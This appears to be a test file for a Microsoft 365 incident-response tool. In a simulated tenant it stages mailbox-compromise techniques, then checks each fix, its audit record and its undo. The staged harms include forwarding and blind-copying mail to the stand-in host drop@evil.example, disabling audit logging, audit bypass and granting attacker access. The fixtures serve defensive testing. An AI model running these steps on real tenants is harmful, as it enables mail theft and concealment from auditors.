/** Every fix against the practice cloud: it changes exactly its object, proves it, leaves Microsoft's record, and is taken back. */
import { existsSync } from "node:fs"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { actAsUser } from "../../sandbox/exchange/act-as-user.ts"
import { EXCHANGE_ADMINISTRATOR } from "../../sandbox/world/role.ts"
import { FIX_NAMES, type FixName } from "../../src/model/action.ts"
import { type PracticeRig, startPracticeRig } from "./practice-rig.ts"

let rig: PracticeRig
beforeEach(async () => {
  rig = await startPracticeRig()
})
afterEach(() => rig.close())

const LYNNE = "lynne.robin@contoso.example"
const GRADY = "grady.archer@contoso.example"
const ADMIN = { userUpn: "megan.ortiz@contoso.example", ip: "198.51.100.24" }
const act = (cmdlet: string, parameters: Readonly<Record<string, unknown>>) =>
  actAsUser(rig.cloud.world, rig.tenant, ADMIN, cmdlet, parameters)

type Play = {
  readonly fix: FixName
  /** Does the harm, and answers the alert's object. */
  readonly harm: () => Readonly<Record<string, string>>
  readonly about?: string
  /** The part of the world that the fix is about. */
  readonly state: () => unknown
  readonly fixed: unknown
  readonly records: readonly string[]
  /** After taking back: the state after the harm; missing when it can't be taken back. */
  readonly undoRecords?: readonly string[]
}

const app = () => ({
  objectId: "6d7e7a70-4d7e-4a53-9e5f-1b0c5d9e2f01",
  appId: "0b9b3b54-8a5f-4e6c-8c1e-7f2d3a4b5c02",
  displayName: "Mail Sorter",
  accountEnabled: true,
})
const graphId = () => rig.tenant.applications[0]?.objectId ?? ""
const grant = (id: string, principalId: string | null, scope: string) => ({
  ...{ id, clientId: app().objectId, principalId, resourceId: graphId(), scope },
})
const grantTexts = () =>
  rig.tenant.oauthGrants
    .filter(({ clientId }) => clientId === app().objectId)
    .map(({ principalId, scope }) => `${principalId ?? "all"} ${scope}`)
    .toSorted()
const CALENDAR = "\\Calendar"
const calendar = () =>
  rig
    .mailbox("lynne.robin")
    .folders.find(({ path }) => path === CALENDAR)
    ?.permissions.map((one) => `${one.user}: ${one.accessRights}`)
const EVERYDAY = ["Default: AvailabilityOnly", "Anonymous: None"]
const rule = () => rig.tenant.transportRules.map(({ name, enabled, mode }) => ({ name, enabled, mode }))

const PLAYS: readonly Play[] = [
  {
    fix: "stop-forwarding",
    harm: () => {
      act("Set-Mailbox", {
        Identity: LYNNE,
        ForwardingSmtpAddress: "drop@evil.example",
        DeliverToMailboxAndForward: true,
      })
      return { mailbox: LYNNE }
    },
    state: () => rig.mailbox("lynne.robin").forwardingSmtpAddress,
    fixed: null,
    records: ["Set-Mailbox"],
    undoRecords: ["Set-Mailbox"],
  },
  {
    fix: "disable-inbox-rule",
    harm: () => {
      act("New-InboxRule", { Mailbox: LYNNE, Name: ".", DeleteMessage: true })
      return { mailbox: LYNNE, ruleName: "." }
    },
    state: () => rig.mailbox("lynne.robin").rules.find(({ name }) => name === ".")?.enabled,
    fixed: false,
    records: ["Disable-InboxRule"],
    undoRecords: ["Enable-InboxRule"],
  },
  {
    fix: "remove-mailbox-permission",
    harm: () => {
      act("Add-MailboxPermission", { Identity: LYNNE, User: GRADY, AccessRights: ["FullAccess"] })
      return { mailbox: LYNNE, user: GRADY, accessRights: "FullAccess" }
    },
    state: () => rig.mailbox("lynne.robin").permissions.map(({ user }) => user),
    fixed: [],
    records: ["Remove-MailboxPermission"],
    undoRecords: ["Add-MailboxPermission"],
  },
  {
    fix: "remove-send-on-behalf",
    harm: () => {
      act("Set-Mailbox", { Identity: LYNNE, GrantSendOnBehalfTo: ["Grady Archer", "Patti Fern"] })
      return { mailbox: LYNNE, user: GRADY }
    },
    state: () => rig.mailbox("lynne.robin").grantSendOnBehalfTo.toSorted(),
    fixed: ["Patti Fern"],
    records: ["Set-Mailbox"],
    undoRecords: ["Set-Mailbox"],
  },
  {
    fix: "remove-folder-permission",
    harm: () => {
      act("Add-MailboxFolderPermission", {
        Identity: `${LYNNE}:${CALENDAR}`,
        User: GRADY,
        AccessRights: ["Editor"],
      })
      return { mailbox: LYNNE, user: GRADY, folder: CALENDAR, accessRights: "Editor" }
    },
    state: calendar,
    fixed: EVERYDAY,
    records: ["Remove-MailboxFolderPermission"],
    undoRecords: ["Add-MailboxFolderPermission"],
  },
  {
    fix: "disable-transport-rule",
    harm: () => {
      act("New-TransportRule", { Name: "Archive", BlindCopyTo: ["drop@evil.example"], Mode: "Enforce" })
      return { ruleName: "Archive" }
    },
    about: "Archive",
    state: rule,
    fixed: [{ name: "Archive", enabled: false, mode: "Enforce" }],
    records: ["Disable-TransportRule"],
    undoRecords: ["Enable-TransportRule"],
  },
  {
    fix: "enable-audit-log",
    harm: () => {
      act("Set-AdminAuditLogConfig", { UnifiedAuditLogIngestionEnabled: false })
      rig.tenant.sharedSettings = true
      return {}
    },
    about: "Admin Audit Log Settings",
    state: () => rig.tenant.unifiedAuditEnabled,
    fixed: true,
    records: ["Set-AdminAuditLogConfig"],
  },
  {
    fix: "enable-mailbox-audit",
    harm: () => {
      act("Set-Mailbox", { Identity: LYNNE, AuditEnabled: false, DefaultAuditSet: ["Admin"] })
      return { mailbox: LYNNE }
    },
    state: () => [rig.mailbox("lynne.robin").auditEnabled, rig.mailbox("lynne.robin").defaultAuditSet.length],
    fixed: [true, 3],
    records: ["Set-Mailbox"],
  },
  {
    fix: "enable-mailbox-audit",
    harm: () => {
      act("Set-OrganizationConfig", { AuditDisabled: true })
      return { scope: "organization" }
    },
    about: "contoso.onmicrosoft.com",
    state: () => rig.tenant.mailboxAuditDisabled,
    fixed: false,
    records: ["Set-OrganizationConfig"],
  },
  {
    fix: "remove-audit-bypass",
    harm: () => {
      act("Set-MailboxAuditBypassAssociation", { Identity: LYNNE, AuditBypassEnabled: true })
      return { mailbox: LYNNE }
    },
    state: () => rig.mailbox("lynne.robin").auditBypassed,
    fixed: false,
    records: ["Set-MailboxAuditBypassAssociation"],
  },
  {
    fix: "disable-sign-in",
    harm: () => ({ user: LYNNE }),
    state: () => rig.user("lynne.robin").accountEnabled,
    fixed: false,
    records: ["Disable account."],
    undoRecords: ["Enable account."],
  },
  {
    fix: "remove-oauth-grant",
    harm: () => {
      rig.tenant.applications.push(app())
      const [lynne, grady] = [rig.user("lynne.robin").objectId, rig.user("grady.archer").objectId]
      rig.tenant.oauthGrants.push(grant("g1", lynne, "Mail.Read"), grant("g2", grady, "Mail.Read"))
      return { appId: app().appId, appName: "Mail Sorter", consentType: "Principal", user: LYNNE }
    },
    about: app().appId,
    state: () => grantTexts().length,
    fixed: 1,
    records: ["Remove delegated permission grant."],
    undoRecords: ["Add delegated permission grant."],
  },
  {
    fix: "disable-application",
    harm: () => {
      rig.tenant.applications.push(app())
      return { servicePrincipalId: app().objectId, appName: "Mail Sorter" }
    },
    about: app().appId,
    state: () => rig.tenant.applications.find(({ appId }) => appId === app().appId)?.accountEnabled,
    fixed: false,
    records: ["Update service principal."],
    undoRecords: ["Update service principal."],
  },
  {
    fix: "remove-from-role",
    harm: () => {
      rig.tenant.roleEligibilities = [
        {
          id: "0c6a1a3e-6a62-4a9b-9c0f-51f6b1b0aa02",
          principalId: rig.user("lynne.robin").objectId,
          roleDefinitionId: EXCHANGE_ADMINISTRATOR,
          directoryScopeId: "/",
        },
      ]
      return { user: LYNNE, roleName: "Exchange Administrator" }
    },
    state: () => rig.tenant.roleEligibilities?.map(({ principalId }) => principalId),
    fixed: [],
    records: ["Remove eligible member from role."],
    undoRecords: ["Add eligible member to role."],
  },
  {
    fix: "remove-from-role",
    harm: () => {
      rig.tenant.roleAssignments.push({
        id: "r1",
        principalId: rig.user("lynne.robin").objectId,
        roleDefinitionId: EXCHANGE_ADMINISTRATOR,
        directoryScopeId: "/",
      })
      return { user: LYNNE, roleName: "Exchange Administrator" }
    },
    state: () =>
      rig.tenant.roleAssignments
        .map(({ principalId }) => principalId)
        .includes(rig.user("lynne.robin").objectId),
    fixed: false,
    records: ["Remove member from role."],
    undoRecords: ["Add member to role."],
  },
]

describe("every fix", () => {
  it("is played here, in a file of its own, or, where its state is a time that moves, among the limits", () => {
    const played = [...PLAYS.map(({ fix }) => fix), "revoke-sessions", "reset-password"]
    const hasFile = (fix: FixName) => existsSync(new URL(`./${fix}.test.ts`, import.meta.url))

    expect(FIX_NAMES.filter((fix) => !played.includes(fix) && !hasFile(fix))).toEqual([])
  })
})

describe.each(PLAYS)("$fix on the practice cloud", ({ fix, harm, about, state, fixed, records }) => {
  it("changes exactly its object, reads it back, and leaves the record that the service writes", async () => {
    const one = await rig.incident(fix, harm(), about)
    const seen = rig.operations().length

    const run = await rig.fix(one, fix)

    expect(run).toMatchObject({ state: "verified" })
    expect(run.result).toMatch(/read back/)
    expect(state()).toEqual(fixed)
    expect(rig.operations().slice(seen)).toEqual(records)
    expect((await one.incident()).state).toBe("fixed")
  })
})

const UNDOABLE = PLAYS.filter(({ undoRecords }) => undoRecords !== undefined)

describe.each(UNDOABLE)("taking $fix back", ({ fix, harm, about, state, undoRecords }) => {
  it("brings back what was there before, with a record of its own", async () => {
    const one = await rig.incident(fix, harm(), about)
    const before = state()
    await rig.fix(one, fix)
    const seen = rig.operations().length

    const run = await rig.undo(one, fix)

    expect(run).toMatchObject({ state: "verified", result: expect.stringContaining("taken back: read back") })
    expect(state()).toEqual(before)
    expect(rig.operations().slice(seen)).toEqual(undoRecords)
    expect(await one.incident()).toMatchObject({ standing: [] })
  })
})

describe.each(PLAYS.filter((play) => !UNDOABLE.includes(play)))("$fix", ({ fix, harm, about }) => {
  it("offers nothing to take back, because that would make the customer blind again", async () => {
    const one = await rig.incident(fix, harm(), about)

    await rig.fix(one, fix)

    expect((await one.incident()).standing).toMatchObject([{ undoable: false }])
  })
})
